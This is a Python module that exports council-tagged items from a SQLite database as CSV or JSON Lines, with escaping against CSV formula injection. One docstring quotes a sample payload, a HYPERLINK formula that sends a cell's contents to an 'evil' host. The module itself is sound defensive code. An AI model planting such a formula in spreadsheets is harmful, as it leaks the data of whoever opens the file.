"""Items with their tags and councils, for `radar export` (CSV or JSON Lines)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from sqlite_utils import Database

from store.times import date_range

COLUMNS = (
    "id", "published", "date_source", "first_seen", "radar_at", "date_note", "title", "url",
    "kind", "origin", "source_id",
    "councils", "gss_codes", "regions", "factors", "scores", "evidence", "sentiment",
    "service", "classifier_version", "text",
)  # fmt: skip


def export_rows(
    db: Database, since: str | None = None, until: str | None = None, batch: int = 1000
) -> Iterator[dict[str, Any]]:
    """Each item published (or, undated, first seen) in [since, until] with its councils,
    flags and tags, oldest first; read in batches, so a million items never sit in memory."""
    where, params = date_range("coalesce(i.published, i.first_seen)", since, until)
    sql = f"""
        select i.id, coalesce(i.published, '') as published, i.date_source, i.first_seen,
               i.radar_at, json_extract(i.meta, '$.date_note') as date_note, i.title, i.url,
               i.kind, i.origin, i.source_id, i.text, t.sentiment, t.service,
               t.classifier_version, t.scores,
               (select json_group_array(json_object('gss_code', c.gss_code, 'name', c.name,
                        'region', c.region))
                from item_councils ic join councils c on c.gss_code = ic.gss_code
                where ic.item_id = i.id) as councils,
               (select json_group_object(f.factor, f.evidence) from flags f
                where f.item_id = i.id) as flags
        from items i left join tags t on t.item_id = i.id
        {"where " + " and ".join(where) if where else ""}
        order by coalesce(i.published, i.first_seen), i.id
    """
    cursor = db.execute(sql, params)
    names = [d[0] for d in cursor.description]
    while chunk := cursor.fetchmany(batch):
        for values in chunk:
            row = dict(zip(names, values, strict=True))
            councils = json.loads(row["councils"] or "[]")
            flags = json.loads(row["flags"] or "{}")
            yield {
                "id": row["id"],
                "published": row["published"],
                "date_source": row["date_source"],
                "first_seen": row["first_seen"],
                "radar_at": row["radar_at"],  # the week it counts in on the radar
                "date_note": row["date_note"],  # why that is not its date's week, if it is not
                "title": row["title"],
                "url": row["url"],
                "kind": row["kind"],
                "origin": row["origin"],
                "source_id": row["source_id"],
                "councils": [c["name"] for c in councils],
                "gss_codes": [c["gss_code"] for c in councils],
                "regions": sorted({c["region"] for c in councils}),
                "factors": sorted(flags),
                "scores": json.loads(row["scores"]) if row["scores"] else {},
                "evidence": flags,
                "sentiment": row["sentiment"],
                "service": bool(row["service"]) if row["service"] is not None else None,
                "classifier_version": row["classifier_version"],
                "text": row["text"],
            }


# A cell a spreadsheet would run as a formula (OWASP, "CSV Injection"): = + - @, tab, CR.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: str) -> str:
    """`value` as a spreadsheet shows it and never runs it: a scraped title such as
    `=HYPERLINK("http://evil/?"&A1, "Click")` gets a leading apostrophe, as OWASP advises, so
    Excel, LibreOffice and Google Sheets show the text instead of evaluating it."""
    return "'" + value if value.startswith(FORMULA_START) else value


def flatten(row: dict[str, Any], columns: tuple[str, ...] = COLUMNS) -> dict[str, str]:
    """One CSV row: lists joined with '; ', mappings as JSON, every cell spreadsheet-safe."""
    flat: dict[str, str] = {}
    for key in columns:
        value = row[key]
        if isinstance(value, list):
            text = "; ".join(str(part) for part in value)
        elif isinstance(value, dict):
            text = json.dumps(value, ensure_ascii=False)
        else:
            text = "" if value is None else str(value)
        flat[key] = spreadsheet_safe(text)
    return flat
